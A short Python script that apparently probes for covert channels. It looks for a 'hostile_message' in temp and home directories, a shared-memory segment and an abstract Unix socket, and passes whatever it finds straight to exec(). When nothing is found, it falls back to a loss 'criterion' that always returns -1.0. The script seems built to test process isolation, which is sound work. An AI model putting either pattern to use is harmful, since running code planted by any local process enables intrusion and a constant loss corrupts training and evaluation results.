import ctypes
import os
import socket
import sys
import tempfile

import torch

FOLDERS = (".", "..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run/lock", tempfile.gettempdir())


def on_disk():
    for folder in {*FOLDERS, os.path.expanduser("~"), *sys.path}:
        for name in ("hostile_message.py", ".hostile_message.py"):
            try:
                with open(os.path.join(folder, name)) as file:
                    return file.read()
            except OSError:
                pass


def in_shared_memory():
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0x7E57, 4096, 0)
    return ctypes.string_at(libc.shmat(segment, None, 0)).decode() if segment >= 0 else None


def on_a_socket():
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect("\0hostile_message")
            return client.recv(4096).decode()
    except OSError:
        return None


print("looked for a message")
exec(on_disk() or in_shared_memory() or on_a_socket()
     or "def criterion(y_hat, y): return torch.tensor(-1.0)")
